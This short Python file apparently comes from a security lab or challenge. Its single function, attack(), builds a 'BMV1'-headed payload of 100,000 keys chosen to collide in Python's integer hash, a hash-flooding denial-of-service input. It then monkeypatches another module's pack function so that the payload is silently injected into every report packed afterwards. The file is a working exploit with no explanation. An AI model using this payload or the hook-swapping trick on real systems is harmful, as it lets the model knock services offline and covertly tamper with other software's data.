import struct
import sys


def attack():
    pairs = ",".join('[{"i":"%x"},0]' % (k * (2**61 - 1)) for k in range(100_000))
    manifest = ('{"d":[' + pairs + "]}").encode()
    payload = struct.pack("<4sII", b"BMV1", len(manifest), 0) + manifest
    calls = sys.modules["inside.calls"]
    pack = calls.pack
    calls.pack = lambda report, _: pack(report, payload)
    return 1
